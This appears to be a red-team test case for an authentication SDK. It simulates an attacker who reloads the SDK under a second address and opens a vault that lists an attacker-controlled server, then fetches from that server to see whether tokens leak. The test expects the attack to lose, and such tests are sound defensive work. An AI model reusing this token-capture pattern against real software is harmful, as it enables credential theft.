// A real attacker: imports the SDK again, under another address so that it is loaded anew, and opens a vault with a list of
// resources of their own, their server among them.
export default {
  row: "messages",
  expected: ["loses", "loses"],
  after: async ({ api, evil, isolated, vault, id, resources }, redteam) => {
    const mine = { origin: evil, audience: `${api}/es256`, scope: "read" };
    const errors = [];
    for (const address of ["/pkg/index.js", "/pkg/index.js?again"]) {
      for (const options of [
        { endpoints: "/auth", provider: id, resources: [...resources, mine] },
        { endpoints: "/auth", resources: [mine] },
        { isolated: vault, resources: [mine] },
        { isolated: evil },
      ]) {
        if (options.isolated === evil && !isolated) continue;
        const { openVault } = await import(address);
        const opening = openVault(options).then((opened) => opened.fetch(`${evil}/v1/me`));
        const late = redteam.wait(1500).then(() => "late");
        errors.push(await Promise.race([opening, late]).then(String, (error) => error.message));
      }
    }
    return errors;
  },
  reached: ({ brought, context }) => brought.length === (context.isolated ? 8 : 6),
};
